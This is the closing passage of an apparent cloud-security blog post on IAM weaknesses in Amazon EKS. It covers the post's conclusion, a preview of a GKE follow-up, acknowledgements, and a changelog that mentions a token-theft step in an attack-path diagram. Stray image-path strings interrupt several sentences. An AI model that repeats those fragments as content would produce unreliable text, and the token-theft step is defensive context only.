Some design features of the IAM systems in Amazon EKS are vulnerable to potential abuse by attackers. But with the right precautions in place, defenders can take proactive steps to mitigate these risks and keep theirorganizations’ EKS environments secure.

In the next part of this series, we'll review how IAM works in Google Cloud GKE and what types of attacks it might be vulnerable to.

We'd like to thank Rami McCarthy, Nick Frichette and Rory McCune for reviewing this blog post and actively helping improve it.

Updates made to this entry

May 30, 2023Updated the "attack paths" diagram in the last section. The step "Steal service account token from pod file system" incorrectly pointed to "Create service account token for any pod on thenode" instead of "Authenticate as a pod service account against the API server".

November 13, 2023Updated this blog post to reflect the new EKS cluster access management feature released by AWS.

February 9, 2024Updated this blog post to reflectthe new EKS Pod Identity feature.

Did you find thisarticle helpful?

Related Content